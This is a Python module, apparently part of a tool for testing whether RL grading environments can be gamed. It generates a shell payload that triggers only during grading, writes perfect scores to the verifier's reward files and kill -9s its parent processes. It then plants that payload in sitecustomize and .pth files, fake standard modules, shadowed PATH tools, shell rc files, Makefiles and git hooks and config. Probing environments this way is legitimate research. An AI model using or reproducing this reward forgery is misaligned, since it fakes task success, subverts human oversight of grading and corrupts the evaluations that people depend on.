"""Code that forges a reward when a verifier runs it, in the languages that verifiers and deliveries are written in.

The payload does nothing unless ``/tests`` exists, which only grading makes: it writes full rewards, says who it is in
``planted.txt`` beside them, and kills the processes above it, so that nothing corrects them. Where its user may do
none of this it just ends with exit code 0, which is a cheat of its own.
"""

import json
import re
from collections.abc import Iterable, Sequence
from pathlib import PurePosixPath

from skill2env.verify.dropping import Drop

TRACE = "planted.txt"
"""In the verifier's log folder: which plants were run by the verifier, one a line."""

_FORGE = """\
if [ -e /tests ]; then
PATH=/usr/bin:/bin; d=/logs/verifier
echo "${s2e_who:-$0}" >> $d/planted.txt
rm -rf $d/reward.json $d/reward.txt
printf %s '@JSON@' > $d/reward.json && printf %s 1 > $d/reward.txt && {
k=; p=$$
while [ "${p:-0}" -gt 1 ]; do
k="$p $k"; q=
while read -r a b; do [ "$a" = PPid: ] && q=$b; done < /proc/$p/status
p=$q
done
kill -9 $k; }
fi 2>/dev/null
"""
_MODULE = """\
import os
os.environ['s2e_who'] = globals().get('__file__', 'start-up line')
os.system(@FORGE@)
os.path.exists('/tests') and os._exit(0)
"""
_SUFFIXES = {".py": "python", ".js": "node", ".mjs": "node", ".cjs": "node", ".rb": "ruby", ".pl": "perl"}
_TOOLS = (
    "python3 python pytest py.test bash sh env diff cmp jq awk gawk mawk sed grep egrep cat ls sort uniq head tail wc "
    "cut tr tee test timeout mkdir rm cp mv chmod chown touch date sha256sum md5sum find xargs node npm npx make git "
    "gcc cc g++ go cargo ruby perl php java sqlite3 psql curl wget uv uvx pip pip3 bc dc printf echo nohup su sudo "
    "runuser setpriv unshare stat file xmllint tar gzip unzip pandoc systemctl service id nproc realpath readlink"
)
_STANDARD_MODULES = (
    "json csv re math random statistics decimal fractions datetime collections pathlib subprocess tempfile shutil "
    "traceback hashlib typing unittest sqlite3 xml html string functools itertools contextlib dataclasses io time "
    "pytest yaml numpy pandas"
)
_IMPORT = re.compile(r"^\s*(?:from|import)\s+([A-Za-z_]\w*)", re.MULTILINE)
_COMMAND = re.compile(r"(?:^|[;&|(`]|\$\()\s*([A-Za-z][\w.+-]*)", re.MULTILINE)
_SHELL_FILES = (
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".profile",
    ".bash_aliases",
    ".zshrc",
    ".kshrc",
    ".envrc",
)


def forge_shell(metrics: Sequence[str]) -> str:
    """The payload as lines for sh."""
    return _FORGE.replace("@JSON@", full_reward(metrics).replace("'", "'\\''"))


def full_reward(metrics: Sequence[str]) -> str:
    """A reward.json that gives 1 for everything."""
    return json.dumps(dict.fromkeys(metrics, 1))


def payload_for(path: str, data: bytes, forge: str, *, say: str = "", code: int = 0) -> bytes:
    """A program that forges and ends at once, in the language of the program `data` at `path`.

    Args:
        path: where it will lie.
        data: the program that it replaces.
        forge: from `forge_shell`; may be empty.
        say: what it prints.
        code: its exit code.
    """
    language = _language(path, data)
    quoted = json.dumps(forge)
    if language == "python":
        origin = f"os.environ['s2e_who'] = __file__\nos.system({forge!r})\n" if forge else ""
        out = f"os.write(1, {say.encode()!r})\n" if say else ""
        return f"#!/usr/bin/env python3\nimport os\n{origin}{out}os._exit({code})\n".encode()
    if language == "node":
        body = f"try {{ require('child_process').execSync({quoted}) }} catch (e) {{}}\n" if forge else ""
        return f"#!/usr/bin/env node\n{body}process.stdout.write({json.dumps(say)});\nprocess.exit({code});\n".encode()
    if language == "ruby":
        ruby = quoted.replace("#", "\\#")
        return f"#!/usr/bin/env ruby\nsystem({ruby})\nprint {json.dumps(say)}\nexit!({code})\n".encode()
    if language == "perl":
        perl = quoted.replace("$", "\\$").replace("@", "\\@")
        return f"#!/usr/bin/env perl\nsystem({perl});\nprint {json.dumps(say)};\nexit({code});\n1;\n".encode()
    return f"#!/bin/sh\n{forge}printf '%s' {_quote(say)}\nexit {code}\n".encode()


def plants(
    *,
    folders: Iterable[str],
    search_path: Iterable[str],
    home: str,
    programs: Iterable[tuple[str, bytes]],
    git_configs: Iterable[tuple[str, bytes]],
    rc_files: Iterable[tuple[str, bytes]],
    verifier_texts: Sequence[str],
    forge: str,
) -> list[Drop]:
    """Everything that waits to be run by a verifier.

    Args:
        folders: in which modules, hooks and configuration are planted.
        search_path: folders of programs that the agent may write.
        home: of the agent.
        programs: that lie in the image and that the agent may write: path and content.
        git_configs: ``.git/config`` files, path and content.
        rc_files: start-up files that exist, path and content.
        verifier_texts: what the verifier consists of, for the names it uses.
        forge: the payload.
    """
    module = _MODULE.replace("@FORGE@", repr(forge)).encode()
    shell = f"#!/bin/sh\n{forge}exit 0\n".encode()
    started = f"\nimport os; exec({module.decode()!r})\n".encode()
    modules = sorted(
        {*_STANDARD_MODULES.split(), *_names(_IMPORT, verifier_texts)} - {"os", "sys", "__future__"}
    )
    tools = sorted({*_TOOLS.split(), *_names(_COMMAND, verifier_texts[:1])})
    drops: list[Drop] = []
    for folder in folders:
        names = ["sitecustomize.py", "usercustomize.py", "conftest.py", *(f"{name}.py" for name in modules)]
        drops += [Drop(f"{folder}/{name}", module) for name in names]
        drops += [Drop(f"{folder}/skill2env.pth", started), Drop(f"{folder}/.skill2env-forge", shell, 0o755)]
        drops.append(Drop(f"{folder}/GNUmakefile", _makefile(folder)))
    for version in range(8, 16):
        site = f"{home}/.local/lib/python3.{version}/site-packages"
        drops += [Drop(f"{site}/{name}", module) for name in ("sitecustomize.py", "usercustomize.py")]
        drops.append(Drop(f"{site}/skill2env.pth", started))
    drops += [Drop(f"{folder}/{name}", shell, 0o755) for folder in search_path for name in tools]
    drops += [Drop(path, data + b"\n" + forge.encode()) for path, data in rc_files]
    drops += [Drop(f"{home}/{name}", forge.encode()) for name in _SHELL_FILES]
    drops += [Drop(path, payload_for(path, data, forge), 0o755) for path, data in programs]
    for path, data in git_configs:
        folder = path.rpartition("/")[0]
        hook = f"{folder}/skill2env-forge"
        told = (
            f'\n[core]\n\tfsmonitor = "sh {hook}"\n\tpager = "sh {hook}"\n[diff]\n\texternal = "sh {hook}"\n'
        )
        drops += [Drop(hook, shell, 0o755), Drop(path, data + told.encode())]
        drops += [
            Drop(f"{folder}/hooks/{name}", shell, 0o755)
            for name in ("post-checkout", "pre-commit", "post-index-change")
        ]
    unique = {drop.path: drop for drop in drops}
    return [unique[path] for path in sorted(unique)]


def _makefile(folder: str) -> bytes:
    run = f"sh {folder}/.skill2env-forge"
    return f"S2E := $(shell {run})\n.DEFAULT_GOAL := all\nall:\n\t@{run}\n%:\n\t@{run}\n".encode()


def _names(pattern: re.Pattern[str], texts: Iterable[str]) -> set[str]:
    return {match for text in texts for match in pattern.findall(text)}


def _language(path: str, data: bytes) -> str:
    first = data.split(b"\n", 1)[0]
    if first.startswith(b"#!"):
        for word in (b"python", b"node", b"ruby", b"perl"):
            if word in first:
                return word.decode()
        return "sh"
    return _SUFFIXES.get(PurePosixPath(path).suffix.lower(), "sh")


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"
